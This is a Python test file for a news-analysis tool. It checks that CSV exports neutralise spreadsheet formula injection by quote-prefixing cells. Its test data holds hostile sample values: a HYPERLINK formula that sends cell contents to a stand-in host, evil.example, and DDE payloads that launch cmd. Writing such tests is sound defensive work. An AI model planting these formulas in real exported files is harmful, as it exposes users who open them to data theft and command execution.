"""CSV that is safe to open (issue 17, finding 6): formula-like text cells are neutralised per OWASP
in ``core export`` and in the Events page download (one function, core.io.csv_export.neutral_cell);
``--raw-csv`` keeps them; numbers stay numbers."""

from __future__ import annotations

import csv
import math

import pandas as pd
import pytest

from core.cli import main
from core.io.csv_export import neutral_cell, neutralise_cells, to_csv_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TEXT = (
    "Publication: Monitor Volume: 5 Issue: 3\nJanuary 10, 1999\n\n"
    f"{HOSTILE} Russian Defense Minister Igor Sergeev met South Korean President Kim Dae-jung in Seoul "
    "on January 4 and signed a military cooperation agreement (AP, January 5).\n\n"
    "@SUM(1+1)*cmd|' /C calc'!A0 South Korea will buy Russian tanks worth US$50 million, officials said "
    "(Itar-Tass, January 6).\n"
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),  # a text that is just a number runs nothing
        ("-5.0", "-5.0"),
        ("+1e3", "+1e3"),
        ("Moscow said =1", "Moscow said =1"),  # only the first character matters
        ("", ""),
        (-5.0, -5.0),  # numbers are data
        (3, 3),
        (None, None),
    ],
)
def test_neutral_cell(value: object, expected: object) -> None:
    assert neutral_cell(value) == expected


def test_neutralise_cells_leaves_numeric_columns_and_the_input_alone() -> None:
    df = pd.DataFrame({"goldstein": [-5.0, 2.0], "evidence": ["=1+1", "fine"], "n": [-1, 2]})
    out = neutralise_cells(df)
    assert list(out["evidence"]) == ["'=1+1", "fine"]
    assert list(out["goldstein"]) == [-5.0, 2.0] and out["goldstein"].dtype == float
    assert list(out["n"]) == [-1, 2]
    assert list(df["evidence"]) == ["=1+1", "fine"]  # a copy: the table in memory keeps the raw text


def test_download_bytes_are_neutralised_unless_raw() -> None:
    df = pd.DataFrame({"evidence": [HOSTILE], "goldstein": [-5.0]})
    assert to_csv_bytes(df).decode().splitlines()[1].startswith("\"'=HYPERLINK(")
    assert to_csv_bytes(df, raw=True).decode().splitlines()[1].startswith('"=HYPERLINK(')
    assert to_csv_bytes(df).decode().splitlines()[1].endswith(",-5.0")


def _cells(folder, table: str) -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("raw", [False, True])
def test_cli_export_neutralises_formula_cells(tmp_path, raw: bool) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "hostile.txt").write_text(TEXT, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["export", str(src), "--out", str(out), *(["--raw-csv"] if raw else [])]) == 0
    cells = [v for table in ("events", "amounts", "mentions", "articles") for row in _cells(out, table) for v in row.values()]
    formula = [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))]
    if raw:
        assert any(v.startswith(("=HYPERLINK", "@SUM")) for v in formula)
    else:
        assert formula == []
        assert any(v.startswith("'=HYPERLINK") or v.startswith("'@SUM") for v in cells)
    # the contract's numbers still parse
    for row in _cells(out, "events"):
        assert math.isfinite(float(row["goldstein"]))
    for row in _cells(out, "amounts"):
        assert float(row["value_usd"]) == 50e6
